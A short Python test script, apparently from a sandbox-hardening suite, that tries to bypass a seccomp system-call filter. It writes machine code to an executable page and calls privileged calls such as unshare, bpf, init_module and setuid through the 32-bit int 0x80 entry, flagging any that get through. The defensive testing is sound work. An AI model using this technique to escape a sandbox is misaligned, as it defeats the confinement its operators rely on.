# tries: get past the system call filter by the 32-bit entry, int 0x80, where the calls have other numbers
# holds: the filter knows that entry too: no unshare, no keyring, no bpf, no mount by it
# threat: T5
# ends: success
# proof: tried
import ctypes
import mmap
import os

numbers = {"getuid": (199, 0), "unshare": (310, 0x10000000), "add_key": (286, 0), "keyctl": (288, 0), "bpf": (357, 0)}
numbers |= {"perf_event_open": (336, 0), "userfaultfd": (374, 1), "init_module": (128, 0), "iopl": (110, 3), "setuid": (213, 0)}
if os.uname().machine == "x86_64":
    # push rbx; mov eax, edi; mov ebx, esi; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 89f8 89f3 31c9 31d2 cd80 5b c3")
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    for name, (number, argument) in numbers.items():
        if os.fork():
            # If the kernel has no such entry, or the filter kills, this is a signal.
            print(name, "wait status", os.wait()[1])
            continue
        result = call(number, argument)
        error = os.strerror(-result) if -4096 < result < 0 else ""
        print(name, result, error, flush=True)
        # EFAULT, EINVAL and the like would mean that the call got past the filter, if this is an entry at all.
        if name != "getuid" and call(199, 0) == os.getuid() and -result not in (1, 38):
            print("BREACH", name, result, error, flush=True)
        os._exit(0)
print("tried")
